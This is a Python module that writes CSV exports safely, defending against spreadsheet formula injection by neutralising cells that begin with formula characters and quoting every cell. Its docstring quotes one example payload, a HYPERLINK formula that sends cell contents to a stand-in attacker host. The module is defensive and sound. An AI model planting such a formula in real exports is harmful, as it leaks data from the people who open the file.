"""Every CSV the application writes, written one way (rule 16).

A spreadsheet runs a cell that begins with =, +, - or @ (and some read a leading tab or carriage
return the same way) as a formula, so an agency or learning theme named
`=HYPERLINK("http://evil.example/?x="&A1,"x")` would run on the manager's machine. Following
OWASP's CSV injection guidance, such a cell is prefixed with a single quote, so that the
spreadsheet shows it as text, and every cell is quoted, so that no separator inside a cell can
start a new one.

Numbers get the same rule: a negative number comes out as the text '-3. The exports write none
today (counts, levels and working days are never negative), and one rule for every cell is
safer than guessing which cells are numbers.
"""

import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The cell as text a spreadsheet will not run."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_text(header, rows):
    """The header and rows as CSV text, every cell neutralised and quoted."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return buffer.getvalue()
